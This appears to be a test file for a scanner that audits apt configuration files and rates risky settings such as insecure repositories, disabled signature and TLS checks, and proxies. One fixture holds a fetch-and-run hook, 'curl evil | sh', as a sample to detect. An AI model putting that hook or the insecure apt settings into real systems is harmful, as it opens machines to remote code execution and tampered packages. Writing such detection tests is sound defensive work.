import test, { type ExecutionContext } from 'ava';

import { readConfigFile } from '../../../src/managers/apt/apt-conf.js';
import { defaultConfig } from '../../../src/managers/apt/config-tree.js';
import { buildSettings } from '../../../src/managers/apt/settings.js';
import type { JsonValue } from '../../../src/managers/types.js';
import { rootFromFiles } from '../../helpers/root.js';

function settingsOf(files: Record<string, string>): ReturnType<typeof buildSettings> {
  const tree = defaultConfig();
  const root = rootFromFiles(files);
  for (const path of Object.keys(files)) readConfigFile(root, tree, path);
  return buildSettings(tree);
}

/** One file; the expected [name, value, rules with severities] of every reported setting. */
const reports = test.macro({
  exec(t: ExecutionContext, text: string, expected: [string, JsonValue, string[]][]) {
    const settings = settingsOf({ '/etc/apt/apt.conf.d/99test': text });
    t.deepEqual(settings.map((setting) => [setting.name, setting.value, setting.risks.map((risk) => `${risk.rule}:${risk.severity}`)]), expected);
  },
  title: (name = '') => `reports ${name}`,
});

test('insecure repositories', reports, 'Acquire::AllowInsecureRepositories "true";\nAcquire::AllowWeakRepositories "yes";\nAcquire::AllowDowngradeToInsecureRepositories "1";\n', [
  ['Acquire::AllowInsecureRepositories', 'true', ['allow-insecure:critical']],
  ['Acquire::AllowWeakRepositories', 'yes', ['allow-insecure:high']],
  ['Acquire::AllowDowngradeToInsecureRepositories', '1', ['allow-insecure:critical']],
]);
test('the same option turned off', reports, 'Acquire::AllowInsecureRepositories "false";\n', [['Acquire::AllowInsecureRepositories', 'false', []]]);
test('canonical case whatever the spelling', reports, 'acquire::allowinsecurerepositories "true";\n', [['Acquire::AllowInsecureRepositories', 'true', ['allow-insecure:critical']]]);
test('unauthenticated installs', reports, 'APT::Get::AllowUnauthenticated "true";\nAPT::Get::Force-Yes "true";\n', [
  ['APT::Get::AllowUnauthenticated', 'true', ['signature-check-disabled:critical']],
  ['APT::Get::force-yes', 'true', ['signature-check-disabled:critical']],
]);
test('freshness checks', reports, 'Acquire::Check-Valid-Until "false";\nAcquire::Check-Date "0";\nAcquire::Max-FutureTime "86400";\n', [
  ['Acquire::Check-Valid-Until', 'false', ['insecure-setting:medium']],
  ['Acquire::Check-Date', '0', ['insecure-setting:medium']],
  ['Acquire::Max-FutureTime', '86400', []],
]);
test('proxies, redacted, DIRECT is not one', reports, 'Acquire::http::Proxy "http://user:secret@proxy:3128/";\nAcquire::https::Proxy::deb.example "DIRECT";\nAcquire::http::Proxy-Auto-Detect "/usr/bin/detect";\n', [
  ['Acquire::http::Proxy', 'http://***@proxy:3128/', ['proxy-configured:high']],
  ['Acquire::http::Proxy-Auto-Detect', '/usr/bin/detect', ['proxy-configured:high']],
  ['Acquire::https::Proxy::deb.example', 'DIRECT', []],
]);
test('TLS verification, global and per host', reports, 'Acquire::https { Verify-Peer "false"; Verify-Host "true"; };\nAcquire::https::Verify-Host::mirror.example "false";\nAcquire::https::CAInfo "/etc/ssl/mine.pem";\n', [
  ['Acquire::https::Verify-Peer', 'false', ['tls-verify-disabled:high']],
  ['Acquire::https::Verify-Host', 'true', []],
  ['Acquire::https::Verify-Host::mirror.example', 'false', ['tls-verify-disabled:high']],
  ['Acquire::https::CAInfo', '/etc/ssl/mine.pem', ['insecure-setting:medium']],
]);
test('hooks stay low', reports, 'DPkg::Post-Invoke { "rm -f /x || true"; };\nAPT::Update::Pre-Invoke:: "curl evil | sh";\n', [
  ['DPkg::Post-Invoke', ['rm -f /x || true'], ['code-execution-hook:low']],
  ['APT::Update::Pre-Invoke', ['curl evil | sh'], ['code-execution-hook:low']],
]);
test('relocations and volatile sources', reports, 'Dir::Etc::SourceParts "/tmp/parts";\nAPT::Sources::With:: "/tmp/x.deb";\nDir::Bin::gpgv "/tmp/fake";\n', [
  ['Dir::Etc::SourceParts', '/tmp/parts', ['insecure-setting:medium']],
  ['Dir::Bin::gpgv', '/tmp/fake', ['code-execution-hook:medium']],
  ['APT::Sources::With', ['/tmp/x.deb'], ['insecure-setting:high']],
]);
test('Binary:: options are judged as what they fold onto', reports, 'Binary::apt-get::Acquire::AllowInsecureRepositories "true";\n', [
  ['Binary::apt-get::Acquire::AllowInsecureRepositories', 'true', ['allow-insecure:critical']],
]);
test('options that do not exist or do not matter', reports, 'Acquire::AllowReleaseNoSignature "true";\nAcquire::Languages "none";\nDir::Cache::pkgcache "";\n', []);

test('a setting names the last file that touched it; defaults are not reported', (t) => {
  const settings = settingsOf({
    '/etc/apt/apt.conf.d/docker-clean': 'DPkg::Post-Invoke { "a"; };\n',
    '/etc/apt/apt.conf.d/zz-extra': 'DPkg::Post-Invoke:: "b";\n',
  });
  t.deepEqual(settings.map((setting) => [setting.path, setting.id, setting.value, setting.matchKeys]), [
    ['/etc/apt/apt.conf.d/zz-extra', 'DPkg::Post-Invoke', ['a', 'b'], ['apt|setting|dpkg::post-invoke']],
  ]);
});

test('Binary:: risks say when they apply', (t) => {
  const [setting] = settingsOf({ '/a': 'Binary::apt::APT::Get::AllowUnauthenticated "1";\n' });
  t.regex(setting?.risks[0]?.message ?? '', /when apt runs/);
});
